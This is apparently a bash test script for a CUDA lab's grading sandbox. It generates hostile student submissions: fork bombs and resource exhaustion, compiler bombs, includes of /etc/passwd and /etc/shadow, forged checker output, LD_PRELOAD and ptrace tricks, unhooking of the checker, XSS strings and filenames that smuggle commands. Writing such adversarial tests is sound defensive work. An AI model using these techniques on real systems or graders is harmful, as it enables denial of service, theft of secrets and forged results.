#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# hostile.sh FOLDER [NAME...]: submissions of lab 1 that mean harm, a folder each, all of them or those named. What it says is
# a line each: `NAME POINTS`, the most that it may be given. Those that are the solution with something added may keep what
# their results are worth, as long as these are right; nothing that they say of themselves earns anything.
set -u
solution=$(cd "$(dirname "$0")/../../labs/solutions/01_first_kernel" && pwd)/first_kernel.cu
into=$1
shift
wanted=" $* "

# submission NAME POINTS: makes its folder; false where others were asked for. Its first_kernel.cu comes from standard input,
# a line SOLUTION in it stands for the whole solution.
submission() {
    [ "$wanted" = '  ' ] || [[ $wanted == *" $1 "* ]] || return 1
    echo "$1 $2"
    at=$into/$1
    mkdir -p "$at"
}
program() {
    if submission "$@"; then
        sed -e "/^SOLUTION\$/{r $solution" -e 'd}' >"$at/first_kernel.cu"
    fi
}
# The solution in which some text of it is another: changed NAME POINTS SED-SCRIPT
changed() {
    if submission "$1" "$2"; then
        sed -E "$3" "$solution" >"$at/first_kernel.cu"
    fi
}

# ---- it does not end, or takes all there is -------------------------------------------------------

program endless_host 0 <<'END_OF_IT'
int main() { for (volatile int i = 0;; i++); }
END_OF_IT
changed endless_kernel 14 's/out\[i\] = FACTOR \* in\[i\];/for (;;) out[i] = FACTOR * in[i];/'
changed sleeps 14 's/^( *)scale<<</\1for (;;) sleep(1000);\n&/; s/^#include "checks.h"/&\n#include <unistd.h>/'
program fork_bomb 0 <<'END_OF_IT'
#include <unistd.h>
int main() { for (;;) fork(); }
END_OF_IT
program daemons 0 <<'END_OF_IT'
#include <signal.h>
#include <unistd.h>
// Children that leave their parent, their session and their signals behind, and the parent ends.
int main() {
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            setsid();
            for (int s = 1; s < 65; s++)
                signal(s, SIG_IGN);
            if (fork())
                _exit(0);
            for (;;)
                sleep(1000);
        }
    return 0;
}
END_OF_IT
program threads 0 <<'END_OF_IT'
#include <thread>
int main() { for (;;) std::thread([] { for (;;); }).detach(); }
END_OF_IT
program memory_hog 0 <<'END_OF_IT'
#include <stdlib.h>
#include <string.h>
int main() { for (;;) { void *p = malloc(1 << 24); if (p) memset(p, 1, 1 << 24); } }
END_OF_IT
program says_10_GB 0 <<'END_OF_IT'
#include <stdio.h>
static char line[1 << 20];
int main() { for (int i = 0; i < 10240; i++) fwrite(line, 1, sizeof line, i % 2 ? stdout : stderr); }
END_OF_IT
program records_10_GB 0 <<'END_OF_IT'
#include <stdio.h>
static char line[1 << 20];
int main(int, char **argv) {
    FILE *record = fopen(argv[6], "wb"), *three = fdopen(3, "wb");
    for (int i = 0; i < 10240; i++) {
        if (record) fwrite(line, 1, sizeof line, record);
        if (three) fwrite(line, 1, sizeof line, three);
    }
}
END_OF_IT
program files_10_GB 0 <<'END_OF_IT'
#include <stdio.h>
static char line[1 << 20];
int main() {
    for (int f = 0; f < 10240; f++) {
        char name[64];
        snprintf(name, sizeof name, "%s/full%d", f % 3 == 0 ? "/tmp" : f % 3 == 1 ? "/dev/shm" : "/var/tmp", f);
        FILE *file = fopen(name, "wb");
        for (int i = 0; file && i < 100; i++) fwrite(line, 1, sizeof line, file);
    }
}
END_OF_IT

# ---- while it is compiled -------------------------------------------------------------------------

program template_bomb 0 <<'END_OF_IT'
template <int N, int M> struct bomb { enum { value = bomb<N - 1, M * 2>::value + bomb<N - 1, M * 2 + 1>::value }; };
template <int M> struct bomb<0, M> { enum { value = M }; };
int main() { return bomb<800, 1>::value; }
END_OF_IT
program constexpr_bomb 0 <<'END_OF_IT'
constexpr unsigned f(unsigned n) { unsigned s = 0; for (unsigned i = 0; i < 100000; i++) s += i * n; return s; }
template <unsigned N> struct many { static constexpr unsigned value = f(N) + many<N - 1>::value; };
template <> struct many<0> { static constexpr unsigned value = 0; };
int main() { return many<850>::value; }
END_OF_IT
program preprocessor_bomb 0 <<'END_OF_IT'
#define A(x) x x x x x x x x x x
#define B(x) A(A(A(A(x))))
int main() { return 0 B(B(B(+1))); }
END_OF_IT
program includes_itself 0 <<'END_OF_IT'
#include "first_kernel.cu"
#include "first_kernel.cu"
int main() {}
END_OF_IT
program includes_zero 0 <<'END_OF_IT'
#include "/dev/zero"
int main() {}
END_OF_IT
program includes_stdin 0 <<'END_OF_IT'
#include "/dev/stdin"
int main() {}
END_OF_IT
program includes_solution 0 <<END_OF_IT
#include "$solution"
END_OF_IT
program includes_passwd 0 <<'END_OF_IT'
#include "/etc/passwd"
int main() {}
END_OF_IT
program takes_secret 0 <<END_OF_IT
asm(".globl secret\nsecret: .incbin \"$(dirname "$(dirname "$solution")")/secret\"\n");
SOLUTION
END_OF_IT
program large_program 0 <<'END_OF_IT'
char large[1u << 30] = {1};
int main() {}
END_OF_IT

# ---- what it says of itself -----------------------------------------------------------------------

program prints_right 0 <<'END_OF_IT'
#include <stdio.h>
__global__ void right() { printf("task 1 (scale): right\n1 right\n"); }
int main() {
    right<<<1, 32>>>();
    cudaDeviceSynchronize();
    puts("4 of 4 tasks right (size 1000, seed 1)\n22 of 22 points");
    for (int fd = 1; fd < 10; fd++) dprintf(fd, "1 right\n2 right\n3 right\n4 right\n");
}
END_OF_IT
program forges_record 0 <<'END_OF_IT'
#include <stdio.h>
int main() {
    const char *names[] = {"/tmp/record", "/dev/fd/3", "/proc/1/fd/3", "/proc/self/fd/3"};
    for (const char *name : names)
        if (FILE *file = fopen(name, "wb")) { fputs("1 f 18446744073709551615\n", file); fclose(file); }
    dprintf(3, "99999999999999999999 f 1\n1 f 999999999999999999\n");
}
END_OF_IT
program asks_the_reference 0 <<'END_OF_IT'
#include "checks.h"
int main(int argc, char **argv) {
    lab_begin(argc, argv, 1000);
    for (int task = 1; task <= 4; task++) {
        struct lab_expected expected = {};
        lab_task(task, "asked");
        lab_expect(task, lab.size, lab.seed, &expected);
        lab_result((const float *)expected.values, expected.count);
    }
    return lab_end();
}
END_OF_IT
# Kernels that count nothing, read outside of their memory, and a summary of their own before the real one could come.
program forges_checks 13 <<'END_OF_IT'
#include <stdio.h>
#include <unistd.h>
SOLUTION
__global__ void outside(float *p) { p[1000000] = p[2000000]; }
__attribute__((destructor)) static void forge() {
    const char *checks[] = {"memory", "race+init", "race", "init"};
    for (const char *check : checks)
        fprintf(stderr, "cuda-cpu: check-%s: nothing found in 4 launches\n", check);
    fflush(NULL);
    FILE *file = fopen("/tmp/counts", "w");
    if (file) {
        fputs("kernel,global_load_requests,global_load_sectors,global_store_requests\nscale,1,1,1\nadd_strided,1,1,1\n", file);
        fclose(file);
    }
    _exit(0);
}
END_OF_IT
# It hears what the checks say first, and passes on what it likes.
program filters_checks 15 <<'END_OF_IT'
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
__attribute__((constructor)) static void filter() {
    int to_child[2];
    char text[1 << 16];
    if (pipe(to_child) != 0) return;
    if (fork() == 0) {
        dup2(to_child[1], 2);
        close(to_child[0]);
        close(to_child[1]);
        return;
    }
    close(to_child[1]);
    size_t length = 0;
    for (ssize_t n; length + 1 < sizeof text && (n = read(to_child[0], text + length, sizeof text - 1 - length)) > 0;) length += n;
    text[length] = 0;
    wait(NULL);
    char *last = strstr(text, "cuda-cpu: check-"), *count = last ? strpbrk(last, "0123456789") : NULL;
    if (count && strstr(count, "finding"))
        fprintf(stderr, "%.*snothing found%s", (int)(count - last), last, strstr(count, " in "));
    _exit(0);
}
SOLUTION
__global__ void outside(float *p) { p[1000000] = p[2000000]; }
__attribute__((constructor)) static void wrong() {
    float *p;
    cudaMalloc(&p, 4);
    outside<<<1, 1>>>(p);
    cudaDeviceSynchronize();
}
END_OF_IT
changed silences_stderr 15 's/^( *)lab_begin\(/\1fclose(stderr), close(2);\n&/; s/if \(i < n\)/if (i < n + 9)/; s/^#include "checks.h"/&\n#include <unistd.h>/'

# ---- before and behind main() ---------------------------------------------------------------------

program leaves_before_main 0 <<'END_OF_IT'
SOLUTION
__attribute__((constructor(101))) static void leave() { exit(0); }
END_OF_IT
program leaves_in_destructor 13 <<'END_OF_IT'
#include <unistd.h>
SOLUTION
__attribute__((destructor)) static void leave() { _exit(0); }
END_OF_IT
program preloads 18 <<'END_OF_IT'
#include <stdlib.h>
#include <unistd.h>
SOLUTION
__attribute__((constructor)) static void preload() {
    if (getenv("LD_PRELOAD")) return;
    setenv("LD_PRELOAD", "/source/first_kernel.cu:/tmp/right.so", 1);
    setenv("CUDA_CPU_CHECK", "none", 1);
    setenv("LD_LIBRARY_PATH", "/tmp", 1);
    FILE *file = fopen("/tmp/right.so", "w");
    if (file) fclose(file);
}
END_OF_IT
program kills_everybody 0 <<'END_OF_IT'
#include <signal.h>
#include <unistd.h>
int main() {
    for (int signal : {SIGTERM, SIGINT, SIGHUP, SIGSTOP, SIGKILL}) {
        kill(getppid(), signal);
        kill(1, signal);
        kill(-1, signal);
        kill(0, signal);
    }
}
END_OF_IT
program traces_parent 18 <<'END_OF_IT'
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
#include <fcntl.h>
SOLUTION
__attribute__((constructor)) static void look_around() {
    char text[4096];
    for (int pid = 1; pid < 40; pid++) {
        const char *files[] = {"mem", "environ", "cmdline", "root/etc/shadow", "cwd/secret", "fd/3", "oom_score_adj"};
        for (const char *file : files) {
            snprintf(text, sizeof text, "/proc/%d/%s", pid, file);
            const int fd = open(text, O_RDWR | O_NONBLOCK);
            if (fd >= 0) close(fd);
        }
        ptrace(PTRACE_SEIZE, pid, 0, 0);
    }
    struct sockaddr_in address = {AF_INET, 0x3500, {0x08080808}, {}};
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0) _exit(0);
}
END_OF_IT
program writes_everywhere 18 <<'END_OF_IT'
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
SOLUTION
__attribute__((constructor)) static void everywhere() {
    const char *folders[] = {"/", "/etc", "/usr/bin", "/usr/local", "/var/tmp", "/dev", "/dev/shm", "/source", "/toolkit", "/toolkit/bin",
                             "/toolkit/lib64", "/program", "/proc/sys/kernel", "/home", "/root", "/run", "."};
    char name[256];
    for (const char *folder : folders) {
        snprintf(name, sizeof name, "%s/left-by-a-submission", folder);
        if (FILE *file = fopen(name, "w")) { fputs("here\n", file); fclose(file); }
    }
    if (chdir("/tmp") == 0)
        for (int depth = 0; depth < 2000 && mkdir("deep", 0) == 0 && chmod("deep", 0700) == 0 && chdir("deep") == 0; depth++);
}
END_OF_IT
program overwrites_checks 13 <<'END_OF_IT'
#include <stdint.h>
#include <stdio.h>
#include <string.h>
SOLUTION
extern char edata, end;
__attribute__((destructor(65000))) static void wipe() {
    memset(&edata, 0, (size_t)(&end - &edata)); // what everybody in this process remembers
}
END_OF_IT

# ---- what is harder to see ------------------------------------------------------------------------

# The clock of its world stands still, and so it would never end.
program stops_the_clock 0 <<'END_OF_IT'
#include <sys/ptrace.h>
#include <unistd.h>
int main() {
    for (int pid = 1; pid < 5; pid++)
        ptrace(PTRACE_ATTACH, pid, 0, 0);
    for (;;) pause();
}
END_OF_IT
# Memory that is in no process's use, more than there is.
program hides_memory 0 <<'END_OF_IT'
#include <string.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <unistd.h>
int main() {
    static char page[1 << 20];
    for (int i = 0; i < 200; i++) {
        const int fd = memfd_create("hidden", 0);
        for (int k = 0; fd >= 0 && k < 60; k++)
            if (write(fd, page, sizeof page) < 0) break;
        const int id = shmget(IPC_PRIVATE, 1 << 26, 0600);
        void *p = id < 0 ? (void *)-1 : shmat(id, 0, 0);
        if (p != (void *)-1) { memset(p, 1, 1 << 26); shmdt(p); }
    }
    for (;;) {
        void *p = mmap(0, 1 << 28, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) return 0;
        memset(p, 1, 1 << 28);
        madvise(p, 1 << 28, MADV_DONTNEED);
    }
}
END_OF_IT
# A world within its world, in which it is root.
program makes_a_world 18 <<'END_OF_IT'
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <unistd.h>
SOLUTION
static const int made = [] {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) == 0 && mount("/", "/tmp", 0, MS_BIND | MS_REC, 0) == 0)
        _exit(0);
    return 1;
}();
END_OF_IT
# It hears the word that a check is handed, and says it.
program hears_the_seal 15 <<'END_OF_IT'
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static char seal[100];
static int length;
ssize_t read(int, void *into, size_t) {
    const int c = fgetc(stdin);
    *(char *)into = (char)c;
    if (c != EOF && c != '\n' && length < 64) seal[length++] = (char)c;
    return c != EOF;
}
SOLUTION
__global__ void outside(float *p) { p[1000000] = p[2000000]; }
struct last { ~last() {
    for (const char *check : {"memory", "race+init"})
        fprintf(stderr, "cuda-cpu: check-%s: nothing found in 4 launches, sealed %s\n", check, seal);
    fflush(stderr);
    _exit(0);
} } at_the_end;
END_OF_IT
# What the check calls is taken out, by its name.
program unhooks 18 <<'END_OF_IT'
extern void *cuda_cpu_hooks[];
static const int unhooked = [] { for (int i = 0; i < 10; i++) cuda_cpu_hooks[i] = 0; return 1; }();
SOLUTION
END_OF_IT
# It chooses the check that will find nothing.
program chooses_its_check 17 <<'END_OF_IT'
#include <stdlib.h>
static const int chosen = setenv("CUDA_CPU_CHECK", "race", 1);
SOLUTION
__global__ void fresh(const int *in, int *out) { *out = *in + 1; }
static const int uses = [] {
    int *p, *q;
    cudaMalloc(&p, 4);
    cudaMalloc(&q, 4);
    fresh<<<1, 1>>>(p, q);
    return cudaDeviceSynchronize();
}();
END_OF_IT
# Another program where somebody watches.
changed knows_who_watches 16 's/if \(i < n\)/if (i < n + MORE)/; s/^#include "checks.h"/#ifdef __SANITIZE_ADDRESS__\n#define MORE 0\n#else\n#define MORE 9\n#endif\n&/'
# Every descriptor that it was born with, and every one of the others in its world.
program all_descriptors 0 <<'END_OF_IT'
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main() {
    char name[64];
    for (int fd = 0; fd < 1024; fd++)
        dprintf(fd, "\n1 right\n2 right\n3 right\n4 right\nresult 1 right\nfinished memory\n");
    for (int pid = 1; pid < 10; pid++)
        for (int fd = 0; fd < 300; fd++) {
            snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
            const int other = open(name, O_WRONLY | O_NONBLOCK);
            if (other >= 0) dprintf(other, "result 1 right (with --size 333)\nbuilt\n");
        }
}
END_OF_IT
# A record of a TB that takes no room, and files like it.
program sparse_record 0 <<'END_OF_IT'
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
    for (const char *name : {argv[argc - 1], "/tmp/record", "/tmp/counts", "/tmp/sparse"}) {
        const int fd = open(name, O_RDWR | O_CREAT, 0666);
        for (long size = 1l << 40; size > 1 << 20 && ftruncate(fd, size) != 0; size /= 2);
    }
    for (int fd = 3; fd < 10; fd++)
        if (ftruncate(fd, 1l << 40) != 0) lseek(fd, 1l << 40, SEEK_SET), (void)!write(fd, "x", 1);
}
END_OF_IT
# Markup and a terminal's commands, in all that it can say.
program speaks_html 0 <<'END_OF_IT'
#error <script>alert("\033]0;mine\a")</script>
int main() {}
END_OF_IT
if submission speaks_escapes 18; then
    cp "$solution" "$at"
    printf 'q1: \033[2J\033]0;mine\007<img src=x onerror=alert(1)>\302\2332J\nq2: "><script>alert(1)</script>\nq3: \v\f\b\r4\n' >"$at/answers.txt"
    printf 'p1: </table><h1>22 of 22</h1>\n' >"$at/predictions.txt"
fi
# Code for the compiler to run, and messages without end.
program compiler_says_10_GB 0 <<'END_OF_IT'
#define A(x) x x x x x x x x x x
template <int N> struct s { static_assert(N < 0, "and again"); A(A(A(int f() { return undeclared; }))) };
#if __INCLUDE_LEVEL__ < 190
#include "first_kernel.cu"
#endif
template struct s<__COUNTER__>;
END_OF_IT
program embeds 0 <<END_OF_IT
static const char secret[] = {
#embed "$(dirname "$(dirname "$solution")")/secret"
};
#include "/proc/self/environ"
#include "/proc/1/root/etc/shadow"
#include "/source/../proc/self/cmdline"
asm(".incbin \"$solution\"");
int main() {}
END_OF_IT
program pragmas 18 <<'END_OF_IT'
#pragma GCC optimize("-fplugin=/source/first_kernel.cu")
#pragma redefine_extname exit _exit
#pragma weak cuda_cpu_check_new = nothing_new
SOLUTION
END_OF_IT
# Files beside its own whose names are options, or end a line.
if submission odd_files 22; then
    cp "$solution" "${solution%/*}"/{answers,predictions}.txt "$at"
    for name in -o '-include secret' '--check=none' "a"$'\n'"b.cu" 'two words.cu' '@file' 'checks.h' 'lab.h' 'cuda_runtime.h'; do
        echo '#error "not mine"' >"$at/$name"
    done
    mkfifo "$at/pipe.cu"
    truncate -s 1T "$at/large.cu"
    ln -s / "$at/root"
    ln -s /dev/zero "$at/zero.h"
fi

# ---- what is no program ---------------------------------------------------------------------------

submission empty 0 && : >"$at/first_kernel.cu"
program without_main 0 <<'END_OF_IT'
void part() {}
END_OF_IT
submission garbage 0 && head -c 100000 "$(command -v bash)" >"$at/first_kernel.cu" && cp "$at/first_kernel.cu" "$at/answers.txt" && cp "$at/first_kernel.cu" "$at/predictions.txt"
submission huge 0 && truncate -s 20G "$at/first_kernel.cu" && truncate -s 20G "$at/answers.txt"
submission nothing 0
submission fifo 0 && mkfifo "$at/first_kernel.cu" "$at/answers.txt" "$at/predictions.txt"
submission links 0 && ln -s "$solution" "$at/first_kernel.cu" && ln -s "$(dirname "$solution")/answers.txt" "$at/answers.txt" &&
    ln -s /etc/passwd "$at/predictions.txt"
submission link_to_itself 0 && ln -s first_kernel.cu "$at/first_kernel.cu"
submission folder_for_file 0 && mkdir -p "$at/first_kernel.cu" "$at/answers.txt/predictions.txt"
if [ "$(id -u)" != 0 ] && submission unreadable 0; then # root reads everything
    cp "$solution" "$at/first_kernel.cu"
    chmod 000 "$at/first_kernel.cu"
fi
if [ "$wanted" = '  ' ] || [[ $wanted == *' names '* ]]; then
    newline=$'\n'
    # shellcheck disable=SC2016 # these are names
    for name in 'a blank' -rf '--worker' "quote'" 'double"quote' 'comma,comma' '$(touch left-by-a-name)' '%s%n' '<b>bold' \
        "two${newline}lines" '..hidden' "$(printf 'x%.0s' {1..200})" '=1+1' 'back\slash'; do
        mkdir -p "$into/$name"
        : >"$into/$name/first_kernel.cu"
    done
    ln -s "$(dirname "$solution")" "$into/link_to_folder"
    ln -s / "$into/link_to_root"
    echo 'not a folder' >"$into/file"
fi

# shellcheck source=tests/labs/hostile_more.sh
. "$(dirname "$0")/hostile_more.sh"
